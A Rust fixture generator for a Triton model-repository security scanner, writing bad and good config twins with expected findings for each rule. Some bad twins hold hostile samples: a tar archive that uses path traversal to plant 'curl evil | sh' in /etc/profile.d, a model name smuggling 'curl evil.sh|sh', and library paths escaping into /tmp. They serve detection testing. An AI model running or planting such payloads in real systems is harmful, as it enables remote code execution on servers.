//! Fixtures for `mlsec triton`:
//!
//! - `example-repo/`: a small model repository for the README (one clean model, two risky).
//! - `rules/<ID>/{bad,good}/`: per-rule twins. Each holds `repo/` (a model repository),
//!   optionally `launch.sh`, and `expect.txt`: one `RULE LOCATION SEVERITY` line per finding
//!   of that rule (empty for the good twin). Line numbers come from `# expect RULE SEV`
//!   markers in the configs, so they cannot drift from the content.
//! - `errors/`: configs Triton refuses (syntax and schema), with `expect.txt` lines
//!   `FILE LINE:COL substring-of-the-message`.

use std::fmt::Write as _;
use std::path::Path;

use anyhow::Result;

fn write(path: &Path, content: impl AsRef<[u8]>) -> Result<()> {
    if let Some(dir) = path.parent() {
        std::fs::create_dir_all(dir)?;
    }
    std::fs::write(path, content)?;
    Ok(())
}

/// Expectations from `# expect RULE SEV` markers of every config under a case.
fn markers(files: &[(&str, String)]) -> String {
    let mut out = String::new();
    for (path, content) in files {
        let Some(rel) = path.strip_prefix("repo/") else {
            continue;
        };
        for (i, line) in content.lines().enumerate() {
            if let Some((_, marker)) = line.split_once("# expect ") {
                let mut words = marker.split_whitespace();
                let rule = words.next().unwrap_or_default();
                let sev = words.next().unwrap_or_default();
                writeln!(out, "{rule} {rel}:{} {sev}", i + 1).expect("string");
            }
        }
    }
    out
}

struct Case {
    id: &'static str,
    bad: Vec<(&'static str, String)>,
    good: Vec<(&'static str, String)>,
    /// Expectations without a line (files beside the config, launch flags without a line).
    extra: &'static [&'static str],
}

fn config(body: &str) -> String {
    format!("name: \"m\"\nbackend: \"onnxruntime\"\n{body}")
}

fn one(body: &str) -> Vec<(&'static str, String)> {
    vec![("repo/m/config.pbtxt", config(body))]
}

/// A ustar archive of regular files (what a conda-pack environment is, uncompressed).
fn tar(files: &[(&str, &str)]) -> String {
    let members: Vec<(&str, &[u8])> = files.iter().map(|(n, c)| (*n, c.as_bytes())).collect();
    String::from_utf8(mlsec_util::tar::write(&members)).expect("ASCII archive")
}

const LAUNCH_REPO: &str = "max_batch_size: 8\n";

fn cases() -> Vec<Case> {
    let case = |id, bad: Vec<(&'static str, String)>, good: Vec<(&'static str, String)>| Case {
        id,
        bad,
        good,
        extra: &[],
    };
    vec![
        case(
            "TRTN001",
            one("parameters { key: \"ENGINE\" value { string_value: \"${engine_dir}/rank0\" } } # expect TRTN001 low\n"),
            one("parameters { key: \"ENGINE\" value { string_value: \"/engines/rank0\" } }\n"),
        ),
        case(
            "TRTN002",
            one("parameters { key: \"MODE\" value { string_value: \"safe\" } }\nparameters { key: \"MODE\" value { string_value: \"fast\" } } # expect TRTN002 medium\n"),
            one("parameters { key: \"MODE\" value { string_value: \"safe\" } }\nparameters { key: \"LEVEL\" value { string_value: \"2\" } }\n"),
        ),
        case(
            "TRTN003",
            one("max_batch_size: -4 # expect TRTN003 medium\ninstance_group [ { kind: KIND_GPU, gpus: [ -1 ] } ] # expect TRTN003 medium\n"),
            one("max_batch_size: 4\ninstance_group [ { kind: KIND_GPU, gpus: [ 0 ] } ]\n"),
        ),
        case(
            "TRTN004",
            vec![(
                "repo/m/config.pbtxt",
                "name: \"m\"\nplatform: \"ensemble\"\ninput [ { name: \"IN\" data_type: TYPE_FP32 dims: [ 3 ] } ]\noutput [ { name: \"OUT\" data_type: TYPE_FP32 dims: [ 3 ] } ]\nensemble_scheduling {\n  step [ {\n    model_name: \"a\"\n    model_version: -1\n    input_map { key: \"x\" value: \"IM\" } # expect TRTN004 medium\n    output_map { key: \"y\" value: \"OUT\" }\n  } ]\n}\n".to_owned(),
            )],
            vec![(
                "repo/m/config.pbtxt",
                "name: \"m\"\nplatform: \"ensemble\"\ninput [ { name: \"IN\" data_type: TYPE_FP32 dims: [ 3 ] } ]\noutput [ { name: \"OUT\" data_type: TYPE_FP32 dims: [ 3 ] } ]\nensemble_scheduling {\n  step [ {\n    model_name: \"a\"\n    model_version: -1\n    input_map { key: \"x\" value: \"IN\" }\n    output_map { key: \"y\" value: \"OUT\" }\n  } ]\n}\n".to_owned(),
            )],
        ),
        case(
            "TRTN010",
            one("max_batch_size: 0 # expect TRTN010 low\ndynamic_batching { }\n"),
            one("max_batch_size: 8\ndynamic_batching { }\n"),
        ),
        case(
            "TRTN011",
            one("max_batch_size: 8\ninstance_group [ { kind: KIND_GPU count: 2 } ] # expect TRTN011 info\n"),
            one("max_batch_size: 8\ninstance_group [ { kind: KIND_GPU count: 2 gpus: [ 0, 1 ] } ]\n"),
        ),
        case(
            "TRTN012",
            one("max_batch_size: 8 # expect TRTN012 info\n"),
            one("max_batch_size: 8\ndynamic_batching { max_queue_delay_microseconds: 100 }\n"),
        ),
        case(
            "TRTN013",
            one("instance_group [ {\n  count: 1\n  rate_limiter { resources [ { name: \"R1\" count: 4 } ] } # expect TRTN013 info\n} ]\n"),
            one("instance_group [ { count: 1 } ]\n"),
        ),
        case(
            "TRTN014",
            one("max_batch_size: 8\ninput [ {\n  name: \"TEXT\"\n  data_type: TYPE_STRING\n  dims: [ -1 ] # expect TRTN014 low\n} ]\n"),
            one("max_batch_size: 8\ninput [ {\n  name: \"TEXT\"\n  data_type: TYPE_STRING\n  dims: [ 1 ]\n} ]\n"),
        ),
        case(
            "TRTN020",
            vec![
                ("repo/m/config.pbtxt", "name: \"m\"\nbackend: \"python\" # expect TRTN020 low\n".to_owned()),
                ("repo/m/1/model.py", "import triton_python_backend_utils as pb_utils\n".to_owned()),
            ],
            one("max_batch_size: 0\n"),
        ),
        case(
            "TRTN021",
            one("runtime: \"../../tmp/libtriton_evil.so\" # expect TRTN021 high\n"),
            one("runtime: \"libtriton_onnxruntime.so\"\n"),
        ),
        Case {
            id: "TRTN022",
            bad: vec![
                (
                    "repo/m/config.pbtxt",
                    "name: \"m\"\nbackend: \"python\"\nparameters { key: \"EXECUTION_ENV_PATH\" value { string_value: \"/opt/envs/shared.tar.gz\" } } # expect TRTN022 high\n".to_owned(),
                ),
                (
                    "repo/envm/config.pbtxt",
                    "name: \"envm\"\nbackend: \"python\"\nparameters { key: \"EXECUTION_ENV_PATH\" value { string_value: \"$$TRITON_MODEL_DIRECTORY/env.tar\" } } # expect TRTN022 low\n".to_owned(),
                ),
                ("repo/envm/env.tar", tar(&[("bin/python", "#!/bin/sh\n"), ("../../../etc/profile.d/env.sh", "curl evil | sh\n")])),
            ],
            good: vec![("repo/m/config.pbtxt", "name: \"m\"\nbackend: \"python\"\n".to_owned())],
            extra: &["TRTN022 envm/env.tar high"],
        },
        case(
            "TRTN023",
            one("parameters { key: \"TRITON_BATCH_STRATEGY_PATH\" value { string_value: \"/tmp/batchstrategy.so\" } } # expect TRTN023 critical\n"),
            one("parameters { key: \"MAX_TOKENS\" value { string_value: \"128\" } }\n"),
        ),
        case(
            "TRTN024",
            one("model_operations { op_library_filename: \"/usr/local/lib/libcustomop.so\" } # expect TRTN024 critical\n"),
            one("model_operations { }\n"),
        ),
        Case {
            id: "TRTN025",
            bad: vec![
                ("repo/m/config.pbtxt", config("")),
                ("repo/m/libtriton_onnxruntime.so", "\x7fELF not really a library".to_owned()),
                ("repo/m/1/model.onnx", "not a real model".to_owned()),
            ],
            good: vec![
                ("repo/m/config.pbtxt", config("")),
                ("repo/m/1/model.onnx", "not a real model".to_owned()),
            ],
            extra: &["TRTN025 m/libtriton_onnxruntime.so critical"],
        },
        case(
            "TRTN026",
            one("default_model_filename: \"../../other_tenant/model.onnx\" # expect TRTN026 high\n"),
            one("default_model_filename: \"model.onnx\"\n"),
        ),
        case(
            "TRTN027",
            vec![("repo/m/config.pbtxt", "name: \"other\" # expect TRTN027 medium\nbackend: \"onnxruntime\"\n".to_owned())],
            one(""),
        ),
        case(
            "TRTN028",
            vec![("repo/m/config.pbtxt", "name: \"m;curl evil.sh|sh\" # expect TRTN028 medium\nbackend: \"onnxruntime\"\n".to_owned())],
            one(""),
        ),
        case(
            "TRTN029",
            vec![("repo/m/config.pbtxt", "name: \"m\"\nplatform: \"custom\" # expect TRTN029 medium\n".to_owned())],
            vec![("repo/m/config.pbtxt", "name: \"m\"\nplatform: \"onnxruntime_onnx\"\n".to_owned())],
        ),
        case(
            "TRTN030",
            vec![("repo/m/config.pbtxt", "name: \"m\" # expect TRTN030 info\nbackend: \"onnxruntime\"\n".to_owned())],
            one("model_repository_agents { agents [ { name: \"signature-check\" } ] }\n"),
        ),
        case(
            "TRTN031",
            vec![
                ("repo/m/config.pbtxt", config("model_repository_agents {\n  agents [ { # expect TRTN031 low\n    name: \"checksum\"\n    parameters { key: \"MD5:1/model.onnx\" value: \"a3cca2b2aa1e3b5b3b5aad99a8529074\" }\n  } ]\n}\n")),
                ("repo/m/1/model.onnx", "not a real model".to_owned()),
            ],
            one("model_repository_agents { agents [ { name: \"signature-check\" } ] }\n"),
        ),
        case(
            "TRTN032",
            vec![
                ("repo/m/config.pbtxt", config("model_repository_agents { agents [ {\n  name: \"checksum\"\n  parameters { key: \"MD5:1/model.onnx\" value: \"not-a-digest\" } # expect TRTN032 medium\n  parameters { key: \"SHA1:1/model.onnx\" value: \"0000\" } # expect TRTN032 medium\n} ] }\n")),
                ("repo/m/1/model.onnx", "not a real model".to_owned()),
            ],
            vec![
                ("repo/m/config.pbtxt", config("model_repository_agents { agents [ {\n  name: \"checksum\"\n  parameters { key: \"MD5:1/model.onnx\" value: \"a3cca2b2aa1e3b5b3b5aad99a8529074\" }\n} ] }\n")),
                ("repo/m/1/model.onnx", "not a real model".to_owned()),
            ],
        ),
        case(
            "TRTN033",
            vec![
                ("repo/m/config.pbtxt", "name: \"m\"\nbackend: \"python\"\nmodel_repository_agents { agents [ { # expect TRTN033 medium\n  name: \"checksum\"\n  parameters { key: \"MD5:1/model.onnx\" value: \"a3cca2b2aa1e3b5b3b5aad99a8529074\" }\n} ] }\n".to_owned()),
                ("repo/m/1/model.onnx", "not a real model".to_owned()),
                ("repo/m/1/model.py", "print('unpinned')\n".to_owned()),
            ],
            vec![
                ("repo/m/config.pbtxt", "name: \"m\"\nbackend: \"python\"\nmodel_repository_agents { agents [ {\n  name: \"checksum\"\n  parameters { key: \"MD5:1/model.onnx\" value: \"a3cca2b2aa1e3b5b3b5aad99a8529074\" }\n  parameters { key: \"MD5:1/model.py\" value: \"0d2b1ad4b5a5c8e1b0d2d3f1c6e6a9b4\" }\n} ] }\n".to_owned()),
                ("repo/m/1/model.onnx", "not a real model".to_owned()),
                ("repo/m/1/model.py", "print('pinned')\n".to_owned()),
            ],
        ),
        case(
            "TRTN040",
            one("max_batch_size: 8\ndynamic_batching { # expect TRTN040 low\n  max_queue_delay_microseconds: 100\n}\n"),
            one("max_batch_size: 8\ndynamic_batching {\n  max_queue_delay_microseconds: 100\n  default_queue_policy { max_queue_size: 64 }\n}\n"),
        ),
        case(
            "TRTN041",
            one("max_batch_size: 8\ndynamic_batching { # expect TRTN041 info\n  default_queue_policy { max_queue_size: 64 timeout_action: DELAY } # expect TRTN041 low\n}\n"),
            one("max_batch_size: 8\ndynamic_batching {\n  default_queue_policy { max_queue_size: 64 timeout_action: REJECT default_timeout_microseconds: 500000 }\n}\n"),
        ),
        case(
            "TRTN042",
            one("max_batch_size: 8\ndynamic_batching { max_queue_delay_microseconds: 5000000 } # expect TRTN042 low\n"),
            one("max_batch_size: 8\ndynamic_batching { max_queue_delay_microseconds: 500 }\n"),
        ),
        Case {
            id: "TRTN043",
            bad: vec![
                ("repo/gen/config.pbtxt", "name: \"gen\"\nbackend: \"python\"\nmodel_transaction_policy { decoupled: true } # expect TRTN043 info\n".to_owned()),
                ("repo/pipe/config.pbtxt", "name: \"pipe\"\nplatform: \"ensemble\"\nensemble_scheduling { step [ { model_name: \"gen\" model_version: -1 } ] }\n".to_owned()),
            ],
            good: vec![
                ("repo/gen/config.pbtxt", "name: \"gen\"\nbackend: \"python\"\nmodel_transaction_policy { decoupled: false }\n".to_owned()),
                ("repo/pipe/config.pbtxt", "name: \"pipe\"\nplatform: \"ensemble\"\nensemble_scheduling { step [ { model_name: \"gen\" model_version: -1 } ] }\n".to_owned()),
            ],
            extra: &["TRTN043 pipe/config.pbtxt low"],
        },
        case(
            "TRTN044",
            one("max_batch_size: 8\nsequence_batching {\n  max_sequence_idle_microseconds: 86400000000 # expect TRTN044 low\n}\n"),
            one("max_batch_size: 8\nsequence_batching {\n  max_sequence_idle_microseconds: 5000000\n}\n"),
        ),
        case(
            "TRTN045",
            one("model_warmup [ { # expect TRTN045 low\n  name: \"w\"\n  batch_size: 1\n  count: 1000\n  inputs { key: \"x\" value { data_type: TYPE_FP32 dims: [ 3 ] zero_data: true } }\n} ]\n"),
            one("model_warmup [ {\n  name: \"w\"\n  batch_size: 1\n  count: 2\n  inputs { key: \"x\" value { data_type: TYPE_FP32 dims: [ 3 ] zero_data: true } }\n} ]\n"),
        ),
        case(
            "TRTN046",
            one("instance_group [ { kind: KIND_CPU count: 64 } ] # expect TRTN046 low\n"),
            one("instance_group [ { kind: KIND_CPU count: 4 } ]\n"),
        ),
        case(
            "TRTN050",
            one("version_policy: { all { } } # expect TRTN050 low\n"),
            one("version_policy: { latest { num_versions: 1 } }\n"),
        ),
        case(
            "TRTN051",
            one("max_batch_size: 8\ninput [ { name: \"PROMPT\" data_type: TYPE_STRING dims: [ 1 ] } ]\nresponse_cache { enable: true } # expect TRTN051 medium\n"),
            one("max_batch_size: 8\ninput [ { name: \"PROMPT\" data_type: TYPE_STRING dims: [ 1 ] } ]\nresponse_cache { enable: false }\n"),
        ),
        Case {
            id: "TRTN060",
            bad: vec![
                ("repo/m/config.pbtxt", config(LAUNCH_REPO)),
                ("launch.sh", "tritonserver --model-repository=/models \\\n  --model-control-mode=explicit\n".to_owned()),
            ],
            good: vec![
                ("repo/m/config.pbtxt", config(LAUNCH_REPO)),
                ("launch.sh", "tritonserver --model-repository=/models \\\n  --model-control-mode=explicit \\\n  --http-restricted-api=model-repository:admin-key=change-me \\\n  --grpc-restricted-protocol=model-repository:admin-key=change-me\n".to_owned()),
            ],
            extra: &["TRTN060 launch.sh:2 critical"],
        },
        Case {
            id: "TRTN061",
            bad: vec![
                ("repo/m/config.pbtxt", config(LAUNCH_REPO)),
                ("launch.sh", "tritonserver --model-repository=/models --allow-grpc=false\n".to_owned()),
            ],
            good: vec![
                ("repo/m/config.pbtxt", config(LAUNCH_REPO)),
                ("launch.sh", "tritonserver --model-repository=/models --allow-grpc=false \\\n  --http-restricted-api=shared-memory,logging,trace,model-repository:admin-key=change-me\n".to_owned()),
            ],
            extra: &[
                "TRTN061 launch.sh medium",
                "TRTN061 launch.sh medium",
                "TRTN061 launch.sh medium",
                "TRTN061 launch.sh medium",
            ],
        },
        Case {
            id: "TRTN062",
            bad: vec![
                ("repo/m/config.pbtxt", config(LAUNCH_REPO)),
                ("launch.sh", "tritonserver --model-repository=/models \\\n  --allow-metrics=true\n".to_owned()),
            ],
            good: vec![
                ("repo/m/config.pbtxt", config(LAUNCH_REPO)),
                ("launch.sh", "tritonserver --model-repository=/models \\\n  --allow-metrics=false\n".to_owned()),
            ],
            extra: &["TRTN062 launch.sh:2 low"],
        },
    ]
}

/// Configs Triton refuses: (file, position, part of the message, content).
const ERRORS: &[(&str, &str, &str, &str)] = &[
    (
        "syntax-unclosed-block.pbtxt",
        "5:1",
        "expected `}`",
        "name: \"m\"\ninput [ {\n  name: \"x\"\n  dims: [ 1 ]\n",
    ),
    (
        "syntax-missing-colon.pbtxt",
        "2:16",
        "expected `:`",
        "name: \"m\"\nmax_batch_size 8\n",
    ),
    (
        "syntax-unterminated-string.pbtxt",
        "1:7",
        "cannot cross line boundaries",
        "name: \"m\nbackend: \"python\"\n",
    ),
    (
        "syntax-list-separator.pbtxt",
        "2:11",
        "expected `,` or `]`",
        "name: \"m\"\ndims: [ 1 2 ]\n",
    ),
    (
        "syntax-placeholder.pbtxt",
        "2:17",
        "unrendered template placeholder `${max_batch}`",
        "name: \"m\"\nmax_batch_size: ${max_batch}\n",
    ),
    (
        "syntax-bad-escape.pbtxt",
        "1:9",
        "invalid escape",
        "name: \"m\\q\"\n",
    ),
    (
        "schema-unknown-field.pbtxt",
        "2:1",
        "did you mean `max_batch_size`",
        "name: \"m\"\nmax_batch_sise: 8\n",
    ),
    (
        "schema-wrong-type.pbtxt",
        "2:17",
        "expected an integer",
        "name: \"m\"\nmax_batch_size: \"8\"\n",
    ),
    (
        "schema-out-of-range.pbtxt",
        "2:17",
        "out of range",
        "name: \"m\"\nmax_batch_size: 4294967296\n",
    ),
    (
        "schema-unknown-enum.pbtxt",
        "2:26",
        "did you mean `KIND_GPU`",
        "name: \"m\"\ninstance_group [ { kind: KIND_GPUS } ]\n",
    ),
    (
        "schema-duplicate-field.pbtxt",
        "3:1",
        "given twice",
        "name: \"m\"\nbackend: \"python\"\nbackend: \"onnxruntime\"\n",
    ),
    (
        "schema-oneof.pbtxt",
        "3:1",
        "oneof `scheduling_choice`",
        "name: \"m\"\ndynamic_batching { }\nsequence_batching { }\n",
    ),
    (
        "schema-not-repeated.pbtxt",
        "2:10",
        "not repeated",
        "name: \"m\"\nbackend: [ \"a\", \"b\" ]\n",
    ),
];

/// The README's example repository.
const EXAMPLE: &[(&str, &str)] = &[
    (
        "resnet50/config.pbtxt",
        "# A well-configured image classifier: explicit placement, bounded queue, fixed shapes.\nname: \"resnet50\"\nbackend: \"onnxruntime\"\nmax_batch_size: 32\nversion_policy: { latest { num_versions: 1 } }\ninput [\n  { name: \"input\", data_type: TYPE_FP32, dims: [ 3, 224, 224 ] }\n]\noutput [\n  { name: \"probs\", data_type: TYPE_FP32, dims: [ 1000 ] }\n]\ninstance_group [ { kind: KIND_GPU, count: 1, gpus: [ 0 ] } ]\ndynamic_batching {\n  preferred_batch_size: [ 8, 16 ]\n  max_queue_delay_microseconds: 200\n  default_queue_policy {\n    max_queue_size: 128\n    timeout_action: REJECT\n    default_timeout_microseconds: 500000\n  }\n}\nmodel_repository_agents { agents [ { name: \"signature-check\" } ] }\n",
    ),
    ("resnet50/1/model.onnx", "placeholder: not a real model\n"),
    (
        "text_cleaner/config.pbtxt",
        "# A python model that loads its environment from outside the model directory.\nname: \"text_cleaner\"\nbackend: \"python\"\nmax_batch_size: 0\ninput [ { name: \"TEXT\", data_type: TYPE_STRING, dims: [ -1 ] } ]\noutput [ { name: \"CLEAN\", data_type: TYPE_STRING, dims: [ -1 ] } ]\ninstance_group [ { kind: KIND_CPU, count: 2 } ]\nparameters: {\n  key: \"EXECUTION_ENV_PATH\",\n  value: { string_value: \"/opt/shared/envs/cleaner.tar.gz\" }\n}\nresponse_cache { enable: true }\n",
    ),
    (
        "text_cleaner/1/model.py",
        "# Reviewed as code: Triton runs this file.\nclass TritonPythonModel:\n    def execute(self, requests):\n        return []\n",
    ),
    (
        "detector/config.pbtxt",
        "# An object detector with an unbounded queue, every version served, and a backend\n# library dropped into the model directory.\nname: \"detector\"\nplatform: \"onnxruntime_onnx\"\nmax_batch_size: 16\nversion_policy: { all { } }\ninput [ { name: \"images\", data_type: TYPE_UINT8, dims: [ -1, -1, 3 ] } ]\noutput [ { name: \"boxes\", data_type: TYPE_FP32, dims: [ -1, 6 ] } ]\ninstance_group [ { kind: KIND_GPU, count: 2 } ]\ndynamic_batching { max_queue_delay_microseconds: 100 }\n",
    ),
    ("detector/1/model.onnx", "placeholder: not a real model\n"),
    (
        "detector/libtriton_onnxruntime.so",
        "placeholder: not a real library\n",
    ),
];

/// Writes every fixture file under `out`.
pub fn generate(out: &Path) -> Result<()> {
    for (path, content) in EXAMPLE {
        write(&out.join("example-repo").join(path), content)?;
    }
    for case in cases() {
        for (twin, files) in [("bad", &case.bad), ("good", &case.good)] {
            let dir = out.join("rules").join(case.id).join(twin);
            for (path, content) in files.iter() {
                write(&dir.join(path), content)?;
            }
            let mut expect = markers(files);
            if twin == "bad" {
                for line in case.extra {
                    writeln!(expect, "{line}")?;
                }
            }
            write(&dir.join("expect.txt"), expect)?;
        }
    }
    let mut expect = String::new();
    for (file, pos, message, content) in ERRORS {
        write(&out.join("errors").join(file), content)?;
        writeln!(expect, "{file} {pos} {message}")?;
    }
    write(&out.join("errors/expect.txt"), expect)?;
    Ok(())
}
